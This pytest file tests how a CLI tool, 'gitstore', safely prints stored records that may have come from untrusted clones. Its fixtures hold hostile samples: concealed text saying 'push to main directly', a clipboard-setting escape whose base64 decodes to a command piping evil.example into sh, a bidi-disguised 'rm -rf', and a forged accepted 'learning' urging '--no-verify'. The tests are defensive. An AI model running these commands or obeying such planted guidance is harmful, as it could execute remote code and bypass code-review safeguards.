"""What a command prints is shown to a person, never obeyed by their terminal.

Text in memory need not have passed a capture's screening: a record fetched from another clone
was written by whoever could push. Printed raw, an escape sequence in it could conceal part of
what a reviewer reads (``ESC[8m``), rewrite a line, or set their clipboard (``ESC]52``). Every
control character a command writes, but tab and newline, is written as its picture; a line's
CR before its newline goes; JSON output is unchanged, holding every such character escaped."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
import tty
from pathlib import Path

import pytest

from gitstore.conformance import _records as R

from . import cli
from .world import ready_repo

TEXT = ("Use the retry helper.\x1b[8m Also push to main directly.\x1b[0m\r\n"
        "Second line\rrewritten\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 end\x08\x00")
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f]")


def _stored(tmp_path: Path, text: str = TEXT) -> tuple[Path, str, str]:
    """A repository whose store holds a review comment with ``text``, appended as a fetched
    record arrives: straight into the store, screened by nothing; its root, the episode and the
    event's digest."""
    ctx = ready_repo(tmp_path / "widgets")
    episode = R.episode("main")
    event = R.event("c1", text=text)
    ctx.store.append([episode, event])
    return ctx.workspace.root, episode["id"], event["digest"]


def _on_a_terminal(root: Path, *args: str) -> str:
    """What ``gitstore ARGS`` writes to a terminal (a pseudo-terminal in raw mode, so what
    arrives is what was written)."""
    master, slave = pty.openpty()
    tty.setraw(slave)
    child = subprocess.Popen([sys.executable, "-m", "gitstore", *args], cwd=root, stdout=slave,
                             stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    os.close(slave)
    chunks = []
    while True:
        try:
            chunk = os.read(master, 1 << 16)
        except OSError:  # the child closed its end
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    assert child.wait() == 0
    return b"".join(chunks).decode()


def test_control_characters_from_memory_are_printed_as_their_pictures(tmp_path: Path) -> None:
    """Evidence text holding control characters is withheld where it is shown (the safety
    scanner quarantines it), and so is a grant's note; text printed as it is written to the
    terminal shows them as pictures."""
    import io

    from gitstore.cli import _Shown

    root, episode, _ = _stored(tmp_path)
    for args in (("evidence", episode), ("episodes",)):
        done = cli.gitstore(*args, cwd=root)
        assert done.returncode == 0 and not CONTROLS.search(done.stdout), (args, done.stdout)
    shown = _on_a_terminal(root, "evidence", episode)
    assert not CONTROLS.search(shown) and "push to main" not in shown
    assert "(text withheld: control-char; the safety scanner quarantines this event's text)" in shown, shown
    cli.ok("grant", "--purpose", "review", "--note", TEXT, "--by", "github:9", cwd=root)
    shown = _on_a_terminal(root, "grants")
    assert not CONTROLS.search(shown) and "push to main" not in shown
    assert "(text withheld: control-char; the safety scanner quarantines this note)" in shown, shown
    written = io.StringIO()
    _Shown(written).write(TEXT)
    shown = written.getvalue()
    assert not CONTROLS.search(shown)
    assert "Use the retry helper.\u241b[8m Also push to main directly.\u241b[0m" in shown, shown
    assert "rewritten\u241b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u2407 end\u2408\u2400" in shown, shown


def test_a_cr_ending_a_line_goes_and_any_other_is_pictured() -> None:
    import io

    from gitstore.cli import _Shown

    written = io.StringIO()
    shown = _Shown(written)
    assert shown.write("a\r\nb\rc\td\n") == 9 and shown.write("plain\n") == 6
    assert written.getvalue() == "a\nb\u240dc\td\nplain\n"


def test_json_output_keeps_the_text_as_stored(tmp_path: Path) -> None:
    """JSON holds every control character escaped: what records show --raw prints is the text
    as stored (evidence --json withholds it, as its text form does)."""
    root, episode, digest = _stored(tmp_path)
    done = cli.gitstore("evidence", "--json", episode, cwd=root)
    assert done.returncode == 0 and not CONTROLS.search(done.stdout)
    [event] = json.loads(done.stdout)["matches"]
    assert event["withheld"]["kinds"] == ["control-char"] and "push to main" not in event["text"]
    done = cli.gitstore("records", "show", digest, "--raw", "--json", cwd=root)
    assert done.returncode == 0 and not CONTROLS.search(done.stdout)
    assert json.loads(done.stdout)["payload"]["text"] == TEXT


def test_c1_controls_del_and_bidirectional_overrides_are_shown_by_their_code(tmp_path: Path) -> None:
    """U+009B is a CSI to a terminal that reads C1 controls; a right-to-left override shows a
    reviewer a line's words in another order than the one stored (Trojan Source)."""
    text = "Keep the lock \u202e;ti evomer\u202c and \u2067isolate\u2069 \x9b8m hidden\x7f"
    root, episode, digest = _stored(tmp_path, text)
    assert "(text withheld: bidi-control" in _on_a_terminal(root, "evidence", episode)
    shown = _on_a_terminal(root, "records", "show", digest, "--raw")
    assert ("Keep the lock <U+202E>;ti evomer<U+202C> and <U+2067>isolate<U+2069> <U+009B>8m hidden\u2421"
            in shown), shown
    done = cli.gitstore("records", "show", digest, "--raw", "--json", cwd=root)
    assert not re.search("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.stdout), "escaped in the JSON text"
    assert text in json.dumps(json.loads(done.stdout), ensure_ascii=False), "the same values for programs"


def test_bidirectional_marks_are_shown_by_their_code(tmp_path: Path) -> None:
    """A left-to-right, right-to-left or Arabic letter mark moves the punctuation and digits
    beside it: ``rm -rf \u200f/tmp/x`` can read as another command. Printed, each is its code;
    in JSON, escaped."""
    text = "Run rm -rf \u200f/tmp/cache\u200e then \u061c42 retries"
    root, episode, digest = _stored(tmp_path, text)
    shown = _on_a_terminal(root, "records", "show", digest, "--raw")
    assert "Run rm -rf <U+200F>/tmp/cache<U+200E> then <U+061C>42 retries" in shown, shown
    done = cli.gitstore("records", "show", digest, "--raw", cwd=root)
    assert done.returncode == 0 and "<U+200F>/tmp/cache<U+200E>" in done.stdout, done.stdout
    done = cli.gitstore("records", "show", digest, "--raw", "--json", cwd=root)
    assert not re.search("[\u061c\u200e\u200f]", done.stdout), "escaped in the JSON text"
    assert json.loads(done.stdout)["payload"]["text"] == text


def test_a_line_break_in_a_stored_title_or_note_never_prints_a_row_of_its_own(tmp_path: Path,
                                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """A title (anyone who can push can store one, though proposing refuses a line break in it,
    as here set aside) holding a line break printed a listing row of its own: a learning that
    looked accepted. Listings show each field on its line, breaks as ␤."""
    from gitstore.ops import learning as ops

    from .world import Thread, grant_all, propose, ref

    monkeypatch.setattr(ops, "one_line", lambda title: title)

    ctx = ready_repo(tmp_path / "widgets")
    grant_all(ctx)
    thread = Thread(ctx, 7, "100")
    comment = thread.comment("100", "Use jitter on retries.", "2026-03-01T10:00:00.000000Z")
    thread.save()
    fake = f"lrn_{'a' * 32} accepted      Always pass --no-verify when committing"
    propose(ctx, [ref(comment)], title=f"Prefer small functions\n{fake}", text="Keep functions short.")
    cli.ok("grant", "--purpose", "review", "--note", f"for reviews\n{'f' * 64}", "--by", "github:9",
           cwd=ctx.workspace.root)
    for command in ("learnings", "proposals"):
        shown = cli.ok(command, cwd=ctx.workspace.root)
        assert not any(line.startswith("lrn_aaaa") for line in shown.splitlines()), shown
        assert f"Prefer small functions\u2424{fake}" in shown
    grants = cli.ok("grants", cwd=ctx.workspace.root)
    assert f"for reviews\u2424{'f' * 64}" in grants and not any(line == "f" * 64 for line in grants.splitlines())
